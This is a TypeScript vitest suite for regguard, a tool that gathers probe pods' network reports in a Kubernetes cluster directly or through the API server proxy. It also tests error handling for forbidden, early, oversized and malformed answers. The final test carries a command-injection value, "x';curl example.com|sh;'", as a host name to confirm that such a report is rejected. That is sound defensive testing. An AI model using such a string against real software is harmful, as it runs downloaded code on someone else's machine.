import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterEach, expect, test } from 'vitest'
import type { ViewsFact } from '../../../src/facts/cluster/views.ts'
import { openApi } from '../../../src/observe/cluster/api.ts'
import { readViews } from '../../../src/observe/cluster/read-views.ts'
import { renderJson } from '../../../src/outputs/json.ts'
import { reportOf } from '../../report/reports.ts'
import { type FakeCluster, startFakeApi } from '../../support/cluster/fake-api.ts'
import { probePodOf } from '../../support/cluster/objects.ts'
import { answeredAttempt, endpointLeg } from '../../support/legs.ts'

const closing: (() => unknown)[] = []
afterEach(async () => {
  for (const close of closing.splice(0)) await close()
})

const { vantage: _, ...run } = reportOf()
const report = renderJson({
  ...run,
  legs: [endpointLeg('ghcr.io', { '203.0.113.1': [answeredAttempt()] })],
  machine: { device: 'eth0', mtu: 1500, resolvers: ['10.0.0.53'] },
})

/** A pod that serves this; returns its port. */
async function serving(body: string, status = 200): Promise<{ port: number; asked: string[] }> {
  const asked: string[] = []
  const server: Server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.writeHead(status).end(body)
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  closing.push(() => server.close())
  return { port: (server.address() as AddressInfo).port, asked }
}

async function read(
  cluster: Partial<FakeCluster>,
  isInside: boolean,
  limitMs?: number,
): Promise<ViewsFact & { requests: string[] }> {
  const server = await startFakeApi({ lists: {}, ...cluster })
  closing.push(server.close)
  const signal = AbortSignal.timeout(25_000)
  const api = openApi(
    { server: new URL(server.url), from: 'test', tls: { skipVerify: false }, auth: { kind: 'none' } },
    { env: {}, signal, now: Date.now, keepSecret: () => {}, userAgent: 'test', limits: { retryMs: 1 } },
  )
  closing.push(api.close)
  const found = await readViews(api, {
    ...{ namespace: 'regguard-probes', isInside, signal },
    ...(limitMs === undefined ? {} : { limitMs }),
  })
  return { ...found, requests: server.requests }
}

const podsOf = (...pods: object[]): Partial<FakeCluster> => ({ lists: { '/api/v1/pods': pods as never[] } })

test('from inside, each probe is asked at its own address, and the API server only for the list', async () => {
  const { port, asked } = await serving(report)
  const found = await read(
    podsOf(
      probePodOf({ node: 'node-1', host: true, ip: '127.0.0.1', port }),
      probePodOf({ node: 'node-1', ip: '127.0.0.1', port }),
      {
        ...probePodOf({ node: 'node-2', ip: '127.0.0.1', port }),
        metadata: { name: 'x', namespace: 'shop', labels: {} },
      },
    ),
    true,
  )
  expect(found.views).toMatchObject([
    { node: 'node-1', kind: 'host', report: { machine: { mtu: 1500 }, legs: [{ host: 'ghcr.io' }] } },
    { node: 'node-1', kind: 'pod', report: {} },
  ])
  expect(asked).toEqual(['/report', '/report'])
  expect(found.requests).toHaveLength(1)
  expect(found.requests[0]).toContain('labelSelector=app.kubernetes.io%2Fname%3Dregguard-probe')
})

test('from outside, the API server is asked for the report of each', async () => {
  const { port } = await serving(report)
  const proxied: string[] = []
  const found = await read(
    {
      ...podsOf(probePodOf({ node: 'node-1', name: 'p-1', ip: '127.0.0.1', port })),
      instead: (request, response) => {
        if (!request.url?.endsWith('/proxy/report')) return false
        proxied.push(request.url)
        response.writeHead(200, { 'content-type': 'application/json' }).end(report)
        return true
      },
    },
    false,
  )
  expect(found.views[0]?.report?.legs).toHaveLength(1)
  expect(proxied).toEqual([`/api/v1/namespaces/regguard-probes/pods/p-1:${port}/proxy/report`])
})

test('what cannot be read says why: the right, the pod, its first run, and what is no report', async () => {
  const strange = await serving('{"tool": {"name": "other"}}')
  const early = await serving('the first run has not ended\n', 503)
  const whys = async (pod: object, isInside: boolean, more: Partial<FakeCluster> = {}) =>
    (await read({ ...podsOf(pod), ...more }, isInside)).views.map(({ why, isForbidden }) => [
      why,
      isForbidden,
    ])
  const at = { node: 'node-1', name: 'p-1', ip: '127.0.0.1' }
  const forbids = (path: string) => path.includes('/proxy/')
  expect(await whys(probePodOf({ ...at, port: 9743 }), false, { forbids })).toEqual([
    [expect.stringMatching(/^through the API server: HTTP 403: .* is forbidden/), true],
  ])
  expect(await whys(probePodOf({ ...at, port: early.port }), true, { forbids })).toEqual([
    [expect.stringMatching(/^127\.0\.0\.1:\d+: its first run has not ended; through the API server/), true],
  ])
  expect(await whys(probePodOf({ ...at, port: strange.port }), true)).toEqual([
    ['what it serves is no report of regguard', undefined],
  ])
  expect(await whys(probePodOf({ ...at, port: 9743, waiting: 'ImagePullBackOff' }), true)).toEqual([
    ['it is Pending, ImagePullBackOff', undefined],
  ])
  const refused = await read({ forbids: () => true }, true)
  expect(refused).toMatchObject({ failure: { kind: 'forbidden' }, views: [] })
})

test('an answer without an end or a limit is given up', async () => {
  const { port } = await serving(`{"x": "${'x'.repeat(3 * 1024 * 1024)}"}`)
  const found = await read(
    {
      ...podsOf(probePodOf({ node: 'node-1', ip: '127.0.0.1', port })),
      forbids: (path) => path.includes('/proxy/'),
    },
    true,
  )
  expect(found.views[0]?.why).toContain('its report is too large')
})

test('an answer that trickles in without an end is given up', async () => {
  const server: Server = createServer((_, response) => {
    const timer = setInterval(() => response.write(' '), 20)
    response.once('close', () => clearInterval(timer))
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  closing.push(() => server.close())
  const { port } = server.address() as AddressInfo
  const pod = probePodOf({ node: 'node-1', ip: '127.0.0.1', port })
  const found = await read({ ...podsOf(pod), forbids: (path) => path.includes('/proxy/') }, true, 300)
  expect(found.views[0]?.why).toMatch(/^127\.0\.0\.1:\d+: no answer/)
})

test('a run that never ends, and a name that is no host, make no report', async () => {
  const [leg] = [endpointLeg('ghcr.io', { '203.0.113.1': [answeredAttempt()] })]
  for (const change of [{ durationMs: 1e300 }, { legs: [{ ...leg, host: "x';curl example.com|sh;'" }] }]) {
    const { port } = await serving(JSON.stringify({ ...JSON.parse(report), ...change }))
    const found = await read(podsOf(probePodOf({ node: 'node-1', ip: '127.0.0.1', port })), true)
    expect(found.views[0]?.why).toBe('what it serves is no report of regguard')
  }
})
